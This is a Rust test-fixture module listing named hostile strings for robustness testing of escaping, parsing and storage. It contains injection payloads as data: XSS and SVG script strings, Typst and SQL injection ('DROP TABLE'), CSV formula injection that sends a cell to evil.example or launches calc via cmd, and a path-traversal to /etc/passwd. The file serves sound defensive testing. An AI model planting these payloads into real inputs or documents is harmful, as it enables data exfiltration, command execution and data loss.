//! The hostile-text corpus: strings that break naive escaping, parsing, layout or storage.
//! Each has a name, so a failure says which one broke what.

/// Every hostile string, by name.
pub fn strings() -> Vec<(&'static str, String)> {
    let mut all: Vec<(&'static str, String)> = [
        ("empty", ""),
        ("space", " "),
        ("typst-markup", "#set page(width: 1pt) #panic(\"x\") $x^2$ *bold* _em_ `raw` @ref <label> = Heading \\"),
        ("typst-string-break", "\"); #panic(\"escaped\"); #(\""),
        ("markdown", "# Heading\n\n* item\n[link](javascript:alert(1)) ![img](x.png) `code` **b** | a | b |\n|---|---|"),
        ("html", "<script>alert('x')</script><img src=x onerror=alert(1)>&amp;&lt;&#x27;"),
        ("svg-xml", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e \"boom\">]><svg onload=\"alert(1)\">&e;</svg>]]>"),
        ("csv-hyperlink", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
        ("csv-plus", "+1+cmd|' /C calc'!A0"),
        ("csv-minus", "-2+3"),
        ("csv-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("csv-quote", "'=already quoted"),
        ("csv-structure", "a,b;c\"d\"\r\ne\tf"),
        ("sql", "'); DROP TABLE nodes; --"),
        ("control-chars", "\u{0}\u{1}\u{7}\u{8}\u{b}\u{c}\u{1b}[31mred\u{1b}[0m\u{7f}\u{85}"),
        ("newlines", "line one\nline two\r\nline three\rend"),
        ("rtl", "مرحبا بالعالم \u{202e}txt.exe\u{202c} עברית"),
        ("bidi-isolates", "\u{2066}a\u{2067}b\u{2068}c\u{2069}\u{200f}\u{200e}"),
        ("combining", "Z\u{351}\u{36b}\u{343}\u{36a}a\u{302}\u{30c}\u{301}\u{300}\u{300}\u{300}\u{300}l\u{334}\u{336}go"),
        ("zero-width", "\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}"),
        ("emoji", "👩‍💼📞✅🏳️‍🌈👨‍👩‍👧‍👦🇨🇳"),
        ("cjk-rare", "堃 喆 昇 珺 镕 赟 𠀀𪚥"),
        ("fullwidth-punctuation", "。，、；：？！“”‘’（）【】《》"),
        ("long-word", "Donaudampfschifffahrtsgesellschaftskapitänswitwe"),
        ("whitespace-only", " \t\u{3000}\u{a0} "),
        ("path-like", "../../etc/passwd\\..\\con.txt"),
        ("format-specifiers", "%s%n%x {} {0} ${x} {{x}}"),
    ]
    .into_iter()
    .map(|(name, value)| (name, value.to_owned()))
    .collect();
    // One megabyte: a single unbroken word, and mixed CJK with markup and line breaks.
    all.push(("1mb-ascii", "x".repeat(1_000_000)));
    all.push(("1mb-mixed", "客服<b>&</b>=\n".repeat(1_000_000 / 20)));
    all
}
